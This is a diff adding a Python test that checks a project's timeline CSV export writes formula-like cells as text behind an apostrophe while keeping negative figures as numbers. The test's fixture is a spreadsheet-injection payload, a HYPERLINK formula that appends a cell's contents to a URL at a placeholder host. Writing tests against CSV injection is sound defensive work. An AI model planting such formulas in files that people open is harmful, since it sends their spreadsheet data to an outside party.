@@ -65,3 +65,22 @@ def test_a_column_is_compared_bit_for_bit() -> None:
     assert same_bits(a[:, 0], b[:, 0]) and same_bits([a[::2, 1]], [b[::2, 1].clone()])
     b[3, 0] = -b[3, 0]
     assert not same_bits(a[:, 0], b[:, 0])
+
+
+def test_a_timeline_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
+    """newuser17's timeline CSV writes the implementer's own words (its action, a failure's line) as they are: an
+    action ``=HYPERLINK(...)`` (a hostile agent's, agents19) ran as a formula where a spreadsheet opened the file. Such a
+    cell is written behind an apostrophe; the figures, negative ones included, stay numbers (review20 r9)."""
+    import csv
+
+    from kernelopt.report import collect
+    from kernelopt.report.timeline_csv import timeline_csv
+    from tests.test_report_render import build_report_workspace
+
+    data = collect(build_report_workspace(tmp_path / "ws"))
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"details")'
+    data.versions[1].record.optimization.action_description = formula
+    data.versions[1].record.performance.comparison_with_previous.speedup = -1.5  # a number, never quoted
+    rows = list(csv.DictReader(timeline_csv(data).splitlines()))
+    assert rows[1]["action"] == "'" + formula and rows[1]["speedup_vs_previous"] == "-1.5"
+    assert rows[0]["action"] == "baseline"
